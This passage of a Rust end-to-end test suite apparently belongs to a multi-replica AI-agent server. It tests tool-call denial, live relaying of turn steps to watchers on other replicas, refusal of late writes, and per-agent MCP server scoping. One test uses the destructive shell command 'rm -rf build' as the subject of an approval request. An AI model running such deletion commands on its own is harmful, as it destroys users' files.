        .expect("the turn ends");
    assert_eq!(events.last().unwrap()["state"], "completed");
    assert!(!denied_file.exists(), "a denied call never runs");
    let next = messages_of(&mock, 3);
    let denial = next.last().unwrap();
    assert_eq!(denial["role"], "tool");
    assert_eq!(denial["tool_call_id"], "call_2");
    assert!(
        denial["content"].as_str().unwrap().contains("denied"),
        "the model reads the denial: {denial}"
    );
    let ended = events.iter().find(|e| e["type"] == "tool.ended").expect("tool.ended");
    assert_eq!(ended["status"], "denied");
}

/// The messages of provider request `i`.
fn messages_of(mock: &MockProvider, i: usize) -> Vec<Value> {
    mock.requests()[i]["messages"].as_array().unwrap().clone()
}

/// The worker's write path (issue 8): a step is stored whole with its rows and relays the
/// live output before it to a watcher on the other replica; a turn that ends while one of
/// its interactions is pending closes it first (its resolution comes before `turn.ended`,
/// the end's last step before both); and once settled, the turn's late step and end are
/// refused (`turn-not-running`) and write nothing.
#[tokio::test(flavor = "multi_thread")]
async fn steps_relay_and_store_and_a_settled_turn_refuses_late_writes() {
    let mock = MockProvider::start().await;
    let stack = Stack::start(&mock, 2).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut c = stack.client(1).await;
    let (sid, turn) = running_turn(&mut c, &mut worker, json!({})).await;
    let mut w = watch(&mut c, &sid).await;

    // Live output the API tier has not relayed yet rides in the step's transaction.
    drop(worker.request("turn.delta", json!({"turnId": turn, "text": "first "})));
    let rows = json!([
        {"kind": "assistant", "body": "first answer", "thinking": "hmm"},
        {"kind": "toolCall", "body": "{\"command\":\"ls\"}", "tool": {"name": "shell", "callId": "c1", "status": "pending"}},
        {"kind": "toolResult", "body": "a\nb", "tool": {"name": "shell", "callId": "c1", "status": "ok"}},
    ]);
    let step = result(worker.call("turn.step", json!({"turnId": turn, "rows": rows})).await);
    let seq = step["sequence"].as_i64().expect("sequence");
    let seen = w.until(10, |e| e["type"] == "model.completed").await.unwrap();
    let delta = seen
        .iter()
        .position(|e| e["type"] == "model.delta" && e["text"] == "first ")
        .expect("the delta reaches the other replica's watcher");
    let completed = seen.last().unwrap();
    assert!(delta < seen.len() - 1);
    assert_eq!(completed["sequence"], seq);
    assert_eq!(completed["turnId"], turn.as_str());
    let got: Vec<(Value, Value, Value)> = completed["rows"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["kind"].clone(), r["body"].clone(), r["position"]["itemIndex"].clone()))
        .collect();
    assert_eq!(
        got,
        vec![
            (json!("assistant"), json!("first answer"), json!(0)),
            (json!("toolCall"), json!("{\"command\":\"ls\"}"), json!(1)),
            (json!("toolResult"), json!("a\nb"), json!(2)),
        ]
    );
    assert_eq!(completed["rows"][0]["thinking"], "hmm");
    assert_eq!(completed["rows"][2]["tool"]["status"], "ok");

    // The worker ends the turn (with its last step) while it still asks: the interaction
    // closes with its fallback, before `turn.ended`.
    let ask = worker.ask(&turn, "call-2", approval("rm -rf build"));
    requested(&mut w, 10).await;
    let end = worker
        .call(
            "turn.end",
            json!({"turnId": turn, "state": "failed", "cause": {"code": "provider-status", "status": 500},
                   "step": [{"kind": "assistant", "body": "last words"}]}),
        )
        .await;
    assert!(end.error.is_none(), "{:?}", end.error);
    let got = result(answer(ask, 15).await.expect("the open request is answered"));
    assert_eq!(got["state"], "closed");
    let seen = w.until(10, |e| e["type"] == "turn.ended").await.unwrap();
    let kinds: Vec<&str> = seen
        .iter()
        .filter(|e| e.get("sequence").is_some())
        .filter_map(|e| e["type"].as_str())
        .collect();
    assert_eq!(kinds, ["model.completed", "interaction.resolved", "turn.ended"]);
    let ended = seen.last().unwrap();
    assert_eq!(ended["state"], "failed");
    assert_eq!(ended["cause"], json!({"code": "provider-status", "status": 500}));
    let last = ended["sequence"].as_i64().unwrap();
    let diagnostics = c.ok("session.diagnostics", json!({"sessionId": sid})).await;
    let diagnostic = &diagnostics["diagnostics"][0];
    assert_eq!(
        (&diagnostic["kind"], &diagnostic["sequence"]),
        (&json!("model-step"), &json!(last)),
        "{diagnostics}"
    );

    // Settled: whatever the worker still sends for the turn is refused and stores nothing.
    let late = worker
        .call(
            "turn.step",
            json!({"turnId": turn, "rows": [{"kind": "assistant", "body": "too late"}]}),
        )
        .await;
    assert_eq!(late.error.expect("refused").data["code"], "turn-not-running");
    let late = worker
        .call("turn.end", json!({"turnId": turn, "state": "completed"}))
        .await;
    assert_eq!(late.error.expect("refused").data["code"], "turn-not-running");
    let snap = c.ok("session.get", json!({"sessionId": sid})).await;
    assert_eq!(snap["sequence"], last);
}

/// Two replicas, the fake worker on replica A with a running turn of a session created
/// through A (client `a`), and a client `b` on replica B.
struct AcrossReplicas {
    _mock: MockProvider,
    stack: Stack,
    worker: FakeWorker,
    a: Client,
    b: Client,
    sid: String,
    turn: String,
}

async fn across_replicas() -> AcrossReplicas {
    let mock = MockProvider::start().await;
    let stack = Stack::start(&mock, 2).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut a = stack.client(0).await;
    let (sid, turn) = running_turn(&mut a, &mut worker, json!({})).await;
    let b = stack.client(1).await;
    AcrossReplicas {
        _mock: mock,
        stack,
        worker,
        a,
        b,
        sid,
        turn,
    }
}

/// Issue 8: an append on the worker's replica sends its `NOTIFY` only when a watcher held
/// by another replica is recorded (its own watchers it wakes directly). So watches on
/// another replica must still get every step, tool status, plan and the end at once,
/// gaplessly — also a watch that registers while a step is being appended. Each round opens a new watch on replica B
/// racing one `turn.step` on replica A, and nothing else is appended until both of B's
/// watches have that step: a notice skipped wrongly leaves a watch waiting for its 5 s
/// safety read, past the 3 s allowed here.
#[tokio::test(flavor = "multi_thread")]
async fn watches_on_another_replica_get_every_append_at_once_even_registering_mid_step() {
    let AcrossReplicas {
        _mock,
        stack: _stack,
        mut worker,
        mut a,
        mut b,
        sid,
        turn,
    } = across_replicas().await;
    let mut steady = watch(&mut b, &sid).await;
    let mut seen = Vec::new();
    let mut last = a.ok("session.get", json!({"sessionId": sid})).await["sequence"]
        .as_i64()
        .unwrap();
    for round in 0..12 {
        let mut fresh = b.subscribe("session.watch", json!({"sessionId": sid, "after": last}));
        // Let the registration and the step meet at different points of each other.
        tokio::time::sleep(Duration::from_millis(round % 4)).await;
        let step = worker
            .call(
                "turn.step",
                json!({"turnId": turn, "rows": [{"kind": "assistant", "body": format!("step {round}")}]}),
            )
            .await;
        let seq = result(step)["sequence"].as_i64().unwrap();
        for (name, w) in [("steady", &mut steady), ("fresh", &mut fresh)] {
            let items = w
                .until(3, |e| e["sequence"].as_i64() == Some(seq))
                .await
                .unwrap_or_else(|| panic!("round {round}: the {name} watch on B got sequence {seq} at once"));
            if name == "steady" {
                seen.extend(items.iter().filter_map(|e| e["sequence"].as_i64()));
            }
        }
        b.ok("subscription.close", json!({"id": fresh.id})).await;
        last = seq;
    }
    // A tool call's status changes and a plan are appended the same way (the worker's
    // replica hands them to its own watchers and notifies only for others'): each reaches
    // B's watch at once, nothing else being appended meanwhile.
    let step = worker.call("turn.step", tool_call_step(&turn)).await;
    let call_seq = result(step)["sequence"].as_i64().unwrap();
    let mut calls = vec![None];
    calls.extend(tool_call_events(&turn, call_seq).map(Some));
    for call in calls {
        let (method, seq) = match call {
            None => ("turn.step", call_seq),
            Some((method, params)) => (
                method,
                result(worker.call(method, params).await)["sequence"].as_i64().unwrap(),
            ),
        };
        let items = steady
            .until(3, |e| e["sequence"].as_i64() == Some(seq))
            .await
            .unwrap_or_else(|| panic!("{method}'s event (sequence {seq}) reached the watch on B at once"));
        seen.extend(items.iter().filter_map(|e| e["sequence"].as_i64()));
    }
    // The end carrying the last step: both its events reach B at once.
    let end = worker
        .call(
            "turn.end",
            json!({"turnId": turn, "state": "completed", "step": [{"kind": "assistant", "body": "done"}]}),
        )
        .await;
    let end_seq = result(end)["sequence"].as_i64().unwrap();
    let items = steady
        .until(3, |e| e["type"] == "turn.ended")
        .await
        .expect("turn.ended reaches the watch on B at once");
    seen.extend(items.iter().filter_map(|e| e["sequence"].as_i64()));
    assert_eq!(seen.last(), Some(&end_seq));
    let first = seen[0];
    assert_eq!(seen, (first..=end_seq).collect::<Vec<_>>(), "gapless, each event once");
    assert!(
        items.iter().any(|e| e["type"] == "model.completed"),
        "the end's step before it"
    );
}

/// A step of `turn` holding one tool call (`c9`), as a worker sends it.
fn tool_call_step(turn: &str) -> Value {
    let call =
        json!({"kind": "toolCall", "body": "{}", "tool": {"name": "read_file", "callId": "c9", "status": "requested"}});
    json!({"turnId": turn, "rows": [call]})
}

/// What a worker sends about that call (its row at `call_seq`), in order: it runs, it ends,
/// and the turn's plan.
fn tool_call_events(turn: &str, call_seq: i64) -> [(&'static str, Value); 3] {
    let position = json!({"sourceSequence": call_seq, "itemIndex": 0});
    [
        (
            "turn.toolStatus",
            json!({"turnId": turn, "position": position, "callId": "c9", "status": "running"}),
        ),
        (
            "turn.toolEnded",
            json!({"turnId": turn, "position": position, "callId": "c9", "status": "completed", "output": "read"}),
        ),
        (
            "turn.plan",
            json!({"turnId": turn, "plan": [{"step": "read it", "status": "completed"}]}),
        ),
    ]
}

/// A tool call's status changes and a plan are appended as steps are: the worker's replica
/// hands each to its own watchers as written (not read back), and sends no notice when no
/// other replica watches the session. Each must reach the watch at once (nothing else is
/// appended meanwhile: a watch left unwoken would wait for its 5 s safety read).
#[tokio::test(flavor = "multi_thread")]
async fn tool_events_reach_the_workers_replicas_watchers_as_written_without_a_notice() {
    let mock = MockProvider::start().await;
    let stack = Stack::start(&mock, 1).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut a = stack.client(0).await;
    let (sid, turn) = running_turn(&mut a, &mut worker, json!({})).await;
    let mut w = watch(&mut a, &sid).await;
    let step = worker.call("turn.step", tool_call_step(&turn)).await;
    let call_seq = result(step)["sequence"].as_i64().unwrap();
    w.until(3, |e| e["sequence"].as_i64() == Some(call_seq))
        .await
        .expect("the step reaches the watch");
    let (notices, appended) = berth_e2e::harness::event_notices_and_appends(&stack.servers[0].metrics().await);
    for (method, params) in tool_call_events(&turn, call_seq) {
        let seq = result(worker.call(method, params).await)["sequence"].as_i64().unwrap();
        let items = w
            .until(3, |e| e["sequence"].as_i64() == Some(seq))
            .await
            .unwrap_or_else(|| panic!("{method}'s event reached the watch at once"));
        assert_eq!(items.last().unwrap()["sequence"], seq, "{method}: {items:?}");
    }
    let (notices_after, appended_after) =
        berth_e2e::harness::event_notices_and_appends(&stack.servers[0].metrics().await);
    assert_eq!(notices_after, notices, "no notice: no other replica watches");
    assert_eq!(appended_after - appended, 3, "each event sent as its append wrote it");
    let last = events(&mut a, &sid).await;
    let types: Vec<&str> = last.iter().rev().take(3).map(|e| e["type"].as_str().unwrap()).collect();
    assert_eq!(types, ["plan.updated", "tool.ended", "tool.status"]);
}

/// The text a watch has drawn from its `model.delta` items so far (each placed at its
/// offset, as a client does).
fn drawn(text: &mut String, item: &Value) {
    if item["type"] == "model.delta"
        && let (Some(piece), Some(offset)) = (item["text"].as_str(), item["textOffset"].as_u64())
    {
        text.truncate(offset as usize);
        text.push_str(piece);
    }
}

/// Read `w`'s items into `text` until it reads `want`; false after `secs` seconds.
async fn draws(w: &mut berth_e2e::client::Subscription, text: &mut String, want: &str, secs: u64) -> bool {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(secs);
    while text != want {
        let Ok(Some(item)) = tokio::time::timeout_at(deadline, w.items.recv()).await else {
            return false;
        };
        drawn(text, &item);
    }
    true
}

/// Live output is relayed to other replicas only when one of them watches the session (a
/// recorded watcher), as the step and end notices are. So a watch on another replica must
/// still get the output at once — also one that registers while the output is being
/// stored and relayed: either the relay sees its row, or it commits before the watch reads
/// the stored text. Each round opens a new watch on replica B racing one delta the worker
/// sends on replica A (relayed within 50 ms), at a different point of the flush each time;
/// both of B's watches must draw all the text so far within 3 s (nothing else is sent: a
/// skipped relay is never made up for until the step completes).
#[tokio::test(flavor = "multi_thread")]
async fn live_output_reaches_watches_on_another_replica_even_registering_mid_flush() {
    let AcrossReplicas {
        _mock,
        stack: _stack,
        mut worker,
        mut a,
        mut b,
        sid,
        turn,
    } = across_replicas().await;
    let mut steady = watch(&mut b, &sid).await;
    let mut steady_text = String::new();
    let mut sent = String::new();
    let last = a.ok("session.get", json!({"sessionId": sid})).await["sequence"]
        .as_i64()
        .unwrap();
    for round in 0..12u64 {
        let mut fresh = b.subscribe("session.watch", json!({"sessionId": sid, "after": last}));
        // Let the registration and the flush meet at different points of each other.
        tokio::time::sleep(Duration::from_millis(round * 5 % 55)).await;
        let piece = format!("piece {round}. ");
        sent.push_str(&piece);
        drop(worker.request("turn.delta", json!({"turnId": turn, "text": piece})));
        let mut fresh_text = String::new();
        assert!(
            draws(&mut steady, &mut steady_text, &sent, 3).await,
            "round {round}: the steady watch on B drew {steady_text:?}, not {sent:?}"
        );
        assert!(
            draws(&mut fresh, &mut fresh_text, &sent, 3).await,
            "round {round}: the fresh watch on B drew {fresh_text:?}, not {sent:?}"
        );
        b.ok("subscription.close", json!({"id": fresh.id})).await;
    }
    // The step that completes the text still reaches B (and clears the partial text).
    let step = worker
        .call(
            "turn.step",
            json!({"turnId": turn, "rows": [{"kind": "assistant", "body": sent.clone()}]}),
        )
        .await;
    let seq = result(step)["sequence"].as_i64().unwrap();
    steady
        .until(3, |e| e["sequence"].as_i64() == Some(seq))
        .await
        .expect("the step reaches the watch on B at once");
}

/// A watcher row swept while its watch stays open (its replica's heartbeats failed for
/// 45 s; here deleted by hand) is recorded again by that replica's next heartbeat: it is
/// what makes the worker's replica notify, so the watch on the other replica then gets
/// steps at once again.
#[tokio::test(flavor = "multi_thread")]
async fn a_swept_watcher_row_of_an_open_watch_is_recorded_again() {
    let AcrossReplicas {
        _mock,
        stack,
        mut worker,
        a: _a,
        mut b,
        sid,
        turn,
    } = across_replicas().await;
    let mut w = watch(&mut b, &sid).await;
    let count = "SELECT count(*) FROM session_watchers WHERE session_id = $1";
    assert_eq!(stack.sql_i64(count, &sid).await, 1);
    let swept = stack
        .sql_i64(
            "WITH d AS (DELETE FROM session_watchers WHERE session_id = $1 RETURNING 1) SELECT count(*) FROM d",
            &sid,
        )
        .await;
    assert_eq!(swept, 1);
    let back = eventually(30, || async { (stack.sql_i64(count, &sid).await == 1).then_some(()) }).await;
    assert!(back.is_some(), "the open watch's row is recorded again");
    let step = worker
        .call(
            "turn.step",
            json!({"turnId": turn, "rows": [{"kind": "assistant", "body": "after the sweep"}]}),
        )
        .await;
    let seq = result(step)["sequence"].as_i64().unwrap();
    w.until(3, |e| e["sequence"].as_i64() == Some(seq))
        .await
        .expect("the step reaches the watch on B at once");
}

/// A turn's `turn.run` carries only the tenant's MCP servers its agent could offer a tool
/// of, and with them their secrets: an agent that names only built-in tools gets none, one
/// that names a server's tool gets that server alone, one that names no tools gets them all.
#[tokio::test(flavor = "multi_thread")]
async fn a_turn_gets_only_the_mcp_servers_its_agent_could_use() {
    let mock = MockProvider::start().await;
    let stack = Stack::start(&mock, 1).await;
    let mut worker = FakeWorker::connect(&stack.servers[0], "fake-host").await;
    let mut c = stack.client(0).await;
    for name in ["docs", "deploy"] {
        c.ok(
            "mcp.save",
            json!({"name": name, "transport": {"kind": "http", "url": format!("https://{name}.example/mcp"),
                "headers": {"authorization": format!("Bearer {name}-secret")}}}),
        )
        .await;
    }
    let cases = [
        (json!(["read_file", "shell"]), vec![]),
        (json!(["read_file", "mcp__docs__search"]), vec!["docs"]),
        (Value::Null, vec!["deploy", "docs"]),
    ];
    for (i, (tools, expected)) in cases.into_iter().enumerate() {
        let mut agent = json!({"name": format!("agent{i}")});
        if !tools.is_null() {
            agent["tools"] = tools;
        }
        let agent = c.ok("agent.save", agent).await;
        let sid = c
            .ok(
                "session.create",
                json!({"workspaceId": worker.workspace_id, "agent": agent["agentId"]}),
            )
            .await["sessionId"]
            .as_str()
            .unwrap()
            .to_string();
        c.ok("session.send", json!({"sessionId": sid, "prompt": "go"})).await;
        let run = worker.notification("turn.run").await;
        let mut names: Vec<&str> = run["mcpServers"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|s| s["name"].as_str())
            .collect();
        names.sort();
        assert_eq!(names, expected, "{run}");
    }
}
